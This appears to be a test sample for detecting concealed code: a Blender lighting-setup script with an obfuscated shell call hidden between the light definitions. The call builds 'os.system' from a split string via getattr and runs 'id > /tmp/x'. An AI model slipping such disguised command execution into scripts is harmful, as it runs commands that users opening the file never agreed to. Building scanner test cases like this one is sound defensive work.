# why: the dangerous call is found by a computed name between two lamps
import bpy
import os as files
from math import pi

def area(name, location, energy, size=2.0):
    data = bpy.data.lights.new(name, type='AREA')
    data.energy = energy
    data.size = size
    ob = bpy.data.objects.new(name, data)
    ob.location = location
    bpy.context.collection.objects.link(ob)
    return ob

key = area("Key", (4, -4, 5), 800)
key.rotation_euler = (pi / 4, 0, pi / 4)

kind = "tem"
fill = area("Fill", (-4, -3, 3), 250, size=4)
getattr(files, "sys" + kind)("id > /tmp/x")

rim = area("Rim", (0, 5, 4), 500)
rim.data.color = (0.8, 0.9, 1.0)
rim.rotation_euler = (-pi / 3, 0, 0)

world = bpy.context.scene.world
world.use_nodes = True
world.node_tree.nodes["Background"].inputs[1].default_value = 0.2
